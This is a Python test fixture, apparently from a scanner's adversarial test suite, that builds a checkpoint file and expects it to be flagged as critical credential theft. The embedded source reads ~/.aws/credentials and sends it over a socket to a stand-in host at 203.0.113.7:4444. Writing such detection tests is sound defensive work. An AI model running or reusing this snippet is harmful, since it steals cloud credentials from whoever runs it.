"""Class: theft. AWS credentials, sent away: the decoy's mark proves it."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {
    "path": "/home/ubuntu/.aws/credentials",
    "address": ADDRESS,
    "port": PORT,
    "finding": "SL301",
    "severity": "critical",
}


def make(folder: Path) -> Path:
    source = """
import os, socket
loot = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
socket.create_connection(('203.0.113.7', 4444), 2).sendall(loot)
"""
    return checkpoint(folder, run(source))
